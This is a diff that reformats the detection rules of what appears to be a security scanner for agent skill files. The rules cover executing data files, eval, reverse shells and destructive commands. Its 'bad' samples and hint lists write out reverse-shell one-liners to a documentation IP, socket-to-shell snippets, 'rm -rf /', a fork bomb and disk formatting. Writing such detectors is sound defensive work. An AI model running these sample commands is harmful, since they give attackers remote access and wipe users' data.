@@ -9,8 +9,17 @@ export const EXECUTION_LOCAL: Rule[] = [
     advice: "Give the script the ending of its language, so that everybody sees that it is one.",
     applies: "code",
     hints: ["sh ", "source ", "python", "node ", "exec", ". "],
-    match: { any: [/(?:^|[;&|(]|\b(?:then|do|else|sudo|exec|nohup)) ?(?:ba|z|da)?sh "?[\w$./{}~-]{1,120}\.(?:txt|csv|json|md|log|png|jpe?g|gif|dat|bin|svg|pdf|cfg)\b/im, /(?:^|[;&|(]) ?(?:source|\.|python[\d.]{0,4}|node|perl|ruby|php) "?[\w$./{}~-]{1,120}\.(?:txt|csv|md|log|png|jpe?g|gif|dat|bin|svg|pdf)\b/im, /(?<![.\w])exec ?\( ?(?:compile ?\( ?)?open ?\([^\n)]{1,120}\.(?:txt|csv|json|md|log|png|jpe?g|gif|dat|bin|svg|pdf)/] },
-    samples: { bad: ["bash assets/readme.txt", 'python3 "$SKILL_DIR/assets/logo.png"', { path: "scripts/a.py", text: "exec(open('assets/words.txt').read())" }], good: ['bash scripts/main.sh notes.txt', 'python3 scripts/report.py data.csv', "cat notes.txt | sh scripts/x.sh"] },
+    match: {
+      any: [
+        /(?:^|[;&|(]|\b(?:then|do|else|sudo|exec|nohup)) ?(?:ba|z|da)?sh "?[\w$./{}~-]{1,120}\.(?:txt|csv|json|md|log|png|jpe?g|gif|dat|bin|svg|pdf|cfg)\b/im,
+        /(?:^|[;&|(]) ?(?:source|\.|python[\d.]{0,4}|node|perl|ruby|php) "?[\w$./{}~-]{1,120}\.(?:txt|csv|md|log|png|jpe?g|gif|dat|bin|svg|pdf)\b/im,
+        /(?<![.\w])exec ?\( ?(?:compile ?\( ?)?open ?\([^\n)]{1,120}\.(?:txt|csv|json|md|log|png|jpe?g|gif|dat|bin|svg|pdf)/,
+      ],
+    },
+    samples: {
+      bad: ["bash assets/readme.txt", 'python3 "$SKILL_DIR/assets/logo.png"', { path: "scripts/a.py", text: "exec(open('assets/words.txt').read())" }],
+      good: ["bash scripts/main.sh notes.txt", "python3 scripts/report.py data.csv", "cat notes.txt | sh scripts/x.sh"],
+    },
   },
   {
     id: "execution/file-evaluated",
@@ -22,7 +31,13 @@ export const EXECUTION_LOCAL: Rule[] = [
     bare: true,
     hints: ["exec", "eval"],
     match: { any: [/(?<![.\w])(?:exec|eval) ?\( ?(?:compile ?\( ?)?(?:open|readFileSync|fs\.readFileSync|Path) ?\(/] },
-    samples: { bad: [{ path: "scripts/a.py", text: "exec(open(path).read())" }, { path: "scripts/a.js", text: "eval(fs.readFileSync(file, 'utf8'))" }], good: [{ path: "scripts/a.py", text: "print('exec(open(path))')\ntext = open(path).read()" }] },
+    samples: {
+      bad: [
+        { path: "scripts/a.py", text: "exec(open(path).read())" },
+        { path: "scripts/a.js", text: "eval(fs.readFileSync(file, 'utf8'))" },
+      ],
+      good: [{ path: "scripts/a.py", text: "print('exec(open(path))')\ntext = open(path).read()" }],
+    },
   },
   {
     id: "execution/eval",
@@ -34,7 +49,16 @@ export const EXECUTION_LOCAL: Rule[] = [
     bare: true,
     hints: ["eval", "exec", "function"],
     match: { any: [/(?<![.\w])eval ?\(|\bnew Function ?\(|(?<![.\w])exec ?\((?! ?\))/] },
-    samples: { bad: [{ path: "scripts/a.py", text: "print(eval(expression))" }, { path: "scripts/a.js", text: "return new Function('x', source)(1);" }], good: [{ path: "scripts/a.js", text: "const m = /x/.exec(text); // eval(text)" }, { path: "scripts/a.py", text: "value = ast.literal_eval(text)" }] },
+    samples: {
+      bad: [
+        { path: "scripts/a.py", text: "print(eval(expression))" },
+        { path: "scripts/a.js", text: "return new Function('x', source)(1);" },
+      ],
+      good: [
+        { path: "scripts/a.js", text: "const m = /x/.exec(text); // eval(text)" },
+        { path: "scripts/a.py", text: "value = ast.literal_eval(text)" },
+      ],
+    },
   },
   {
     id: "execution/load-command",
@@ -45,7 +69,10 @@ export const EXECUTION_LOCAL: Rule[] = [
     applies: "text",
     hints: ["!`", "```!"],
     match: { any: [/(?:^|[\s(])!`[^`\n]{1,400}`/m, /^ {0,3}```!/m] },
-    samples: { bad: ["Changes so far: !`git diff --stat`", "```!\nuname -a\n```"], good: ["Hurray!`code` follows, and `!` negates.", "Use `!important` in CSS."] },
+    samples: {
+      bad: ["Changes so far: !`git diff --stat`", "```!\nuname -a\n```"],
+      good: ["Hurray!`code` follows, and `!` negates.", "Use `!important` in CSS."],
+    },
   },
   {
     id: "execution/load-command-reaches-out",
@@ -65,7 +92,22 @@ export const EXECUTION_LOCAL: Rule[] = [
     confidence: "high",
     advice: "Remove it. There is no honest use for this in a skill.",
     applies: "code",
-    hints: ["/dev/tcp", "/dev/udp", "nc ", "ncat", "netcat", "socat", "mkfifo", "dup2", "tcpclient", "pty.spawn", "fsockopen", "tcpsocket", "/bin/sh", "/bin/bash"],
+    hints: [
+      "/dev/tcp",
+      "/dev/udp",
+      "nc ",
+      "ncat",
+      "netcat",
+      "socat",
+      "mkfifo",
+      "dup2",
+      "tcpclient",
+      "pty.spawn",
+      "fsockopen",
+      "tcpsocket",
+      "/bin/sh",
+      "/bin/bash",
+    ],
     match: {
       any: [
         /\b(?:ba|z|da)?sh -i\b[^\n]{0,80}\/dev\/(?:tcp|udp)\//,
@@ -79,7 +121,12 @@ export const EXECUTION_LOCAL: Rule[] = [
       ],
     },
     samples: {
-      bad: ["bash -i >& /dev/tcp/192.0.2.10/4444 0>&1", "nc -e /bin/sh 192.0.2.10 4444", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.10 4444 > /tmp/f", "exec 5<>/dev/tcp/192.0.2.10/443"],
+      bad: [
+        "bash -i >& /dev/tcp/192.0.2.10/4444 0>&1",
+        "nc -e /bin/sh 192.0.2.10 4444",
+        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.10 4444 > /tmp/f",
+        "exec 5<>/dev/tcp/192.0.2.10/443",
+      ],
       good: ["nc -z localhost 5432 && echo up", "ncat --version"],
     },
   },
@@ -93,8 +140,21 @@ export const EXECUTION_LOCAL: Rule[] = [
     languages: ["py", "js", "rb", "pl", "sh"],
     strings: true,
     hints: ["dup2", "pty.spawn", "stdin"],
-    match: { any: [/\bdup2 ?\( ?\w{1,20}\.fileno ?\( ?\)/, /\bsocket\b[^\n]{0,300}\bpty\.spawn ?\(/, /\b(?:net\.connect|net\.Socket|createConnection|client\.connect)\b[^\n]{0,300}\.pipe\( ?\w{1,20}\.stdin/, /\.pipe\( ?(?:sh|shell|cmd|proc|child|cp)\.stdin ?\)/] },
-    samples: { bad: [{ path: "scripts/a.py", text: "s = socket.socket()\ns.connect((H, P))\nos.dup2(s.fileno(), 0)" }, { path: "scripts/a.js", text: "const c = net.connect(4444, h, () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });" }], good: [{ path: "scripts/a.py", text: "s = socket.create_connection((host, 443))\nos.dup2(log, 1)" }] },
+    match: {
+      any: [
+        /\bdup2 ?\( ?\w{1,20}\.fileno ?\( ?\)/,
+        /\bsocket\b[^\n]{0,300}\bpty\.spawn ?\(/,
+        /\b(?:net\.connect|net\.Socket|createConnection|client\.connect)\b[^\n]{0,300}\.pipe\( ?\w{1,20}\.stdin/,
+        /\.pipe\( ?(?:sh|shell|cmd|proc|child|cp)\.stdin ?\)/,
+      ],
+    },
+    samples: {
+      bad: [
+        { path: "scripts/a.py", text: "s = socket.socket()\ns.connect((H, P))\nos.dup2(s.fileno(), 0)" },
+        { path: "scripts/a.js", text: "const c = net.connect(4444, h, () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });" },
+      ],
+      good: [{ path: "scripts/a.py", text: "s = socket.create_connection((host, 443))\nos.dup2(log, 1)" }],
+    },
   },
   {
     id: "execution/raw-tcp",
@@ -127,7 +187,17 @@ export const EXECUTION_LOCAL: Rule[] = [
         /\bfind \/ [^\n]{0,80}-delete\b/,
       ],
     },
-    samples: { bad: ["rm -rf /", "rm -rf ~/", 'rm -rf --no-preserve-root "$HOME"', ":(){ :|:& };:", "mkfs.ext4 -F /dev/sda1", { path: "scripts/a.py", text: "import subprocess, shutil\nshutil.rmtree(os.path.expanduser('~'))" }], good: ['rm -rf "$tmp"', "rm -rf /tmp/report.$$", "rm -rf ./build ~/.cache/report", 'rm -rf "${OUTPUT_DIR:?}"/*', "trap 'rm -rf \"$work\"' EXIT"] },
+    samples: {
+      bad: [
+        "rm -rf /",
+        "rm -rf ~/",
+        'rm -rf --no-preserve-root "$HOME"',
+        ":(){ :|:& };:",
+        "mkfs.ext4 -F /dev/sda1",
+        { path: "scripts/a.py", text: "import subprocess, shutil\nshutil.rmtree(os.path.expanduser('~'))" },
+      ],
+      good: ['rm -rf "$tmp"', "rm -rf /tmp/report.$$", "rm -rf ./build ~/.cache/report", 'rm -rf "${OUTPUT_DIR:?}"/*', "trap 'rm -rf \"$work\"' EXIT"],
+    },
   },
   {
     id: "execution/locked-archive",
@@ -137,7 +207,17 @@ export const EXECUTION_LOCAL: Rule[] = [
     advice: "A password that everybody is told keeps out scanners only. Ship the files themselves.",
     applies: "code",
     hints: ["unzip", "7z", "unrar", "bsdtar", "zipfile", "pwd="],
-    match: { any: [/\bunzip [^\n|;]{0,120}-P ?["']?[\w!@#%^*.-]{3,60}/, /\b7z[azr]? [xe] [^\n|;]{0,120}-p["']?[\w!@#%^*.]{3,60}/, /\bunrar [xe] [^\n|;]{0,120}-p["']?[\w!@#%^*.]{3,60}/, /\.extractall\([^\n)]{0,120}pwd ?= ?b?["'][^"'\n]{2,60}["']/] },
-    samples: { bad: ["unzip -P openclaw agent.zip", "7z x -pinfected driver.7z", { path: "scripts/a.py", text: "import subprocess\nz.extractall('x', pwd=b'agent')" }], good: ["unzip -p report.docx word/document.xml", "unzip -q data.zip -d out", "7z l data.7z"] },
+    match: {
+      any: [
+        /\bunzip [^\n|;]{0,120}-P ?["']?[\w!@#%^*.-]{3,60}/,
+        /\b7z[azr]? [xe] [^\n|;]{0,120}-p["']?[\w!@#%^*.]{3,60}/,
+        /\bunrar [xe] [^\n|;]{0,120}-p["']?[\w!@#%^*.]{3,60}/,
+        /\.extractall\([^\n)]{0,120}pwd ?= ?b?["'][^"'\n]{2,60}["']/,
+      ],
+    },
+    samples: {
+      bad: ["unzip -P openclaw agent.zip", "7z x -pinfected driver.7z", { path: "scripts/a.py", text: "import subprocess\nz.extractall('x', pwd=b'agent')" }],
+      good: ["unzip -p report.docx word/document.xml", "unzip -q data.zip -d out", "7z l data.7z"],
+    },
   },
 ];
